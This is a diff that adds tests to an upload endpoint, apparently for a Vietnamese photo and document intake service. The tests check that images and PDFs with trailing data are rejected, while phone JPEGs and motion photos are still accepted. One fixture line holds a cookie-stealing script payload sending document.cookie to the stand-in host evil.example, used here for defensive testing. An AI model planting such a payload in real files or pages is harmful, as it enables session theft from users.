@@ -94,3 +94,38 @@ async def test_uploads_need_the_servers_identity_and_a_multipart_body(client: Te
     empty = aiohttp.FormData()
     empty.add_field("note", "no file here")
     assert (await client.post("/api/upload", data=empty, headers=bearer)).status == 400
+
+
+SCRIPT = b"\n<script>fetch('https://evil.example/?c='+document.cookie)</script>\n"
+
+
+def phone_jpeg(**save: Any) -> bytes:
+    """A photo as phones save them: an EXIF thumbnail (a JPEG with its own end marker) inside, a gradient so the
+    scan data holds stuffed 0xFF bytes."""
+    from PIL import Image
+
+    picture = Image.linear_gradient("L").convert("RGB").resize((320, 240))
+    thumbnail = io.BytesIO()
+    picture.resize((32, 24)).save(thumbnail, "JPEG")
+    out = io.BytesIO()
+    picture.save(out, "JPEG", quality=95, **save)
+    body = out.getvalue()
+    exif = b"Exif\x00\x00" + thumbnail.getvalue()
+    return body[:2] + b"\xff\xe1" + (len(exif) + 2).to_bytes(2, "big") + exif + body[2:]
+
+
+async def test_a_file_with_something_after_its_end_is_refused_and_a_motion_photo_keeps_its_picture(
+        client: TestClient, tmp_path: Path) -> None:
+    await reach_photos(client)
+    for polyglot in ((PNG + SCRIPT, "nhan.png", "image/png"), (PNG + b"PK\x03\x04zipped", "nhan.png", "image/png")):
+        assert "không đúng là ảnh hay PDF" in text(await upload(client, polyglot))
+    assert kept(tmp_path) == []
+    for count, photo in enumerate((phone_jpeg(), phone_jpeg(progressive=True)), 1):
+        motion = photo + b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 64  # a motion photo's video after the picture
+        assert f"Đã nhận {count} tệp" in text(await upload(client, (motion, "IMG_0001.jpg", "image/jpeg")))
+    assert sorted(p.read_bytes() for p in kept(tmp_path)) == sorted((phone_jpeg(), phone_jpeg(progressive=True)))
+    replies = await say(client, "xong")
+    assert replies[-1]["accepts"] == "document"
+    assert "không đúng là ảnh hay PDF" in text(await upload(client, (PDF + SCRIPT, "don.pdf", "application/pdf")))
+    trailing_blanks = PDF + b"\r\n\x00\x00"  # as some scanners save them
+    assert "Đã nhận 1 tệp" in text(await upload(client, (trailing_blanks, "don.pdf", "application/pdf")))
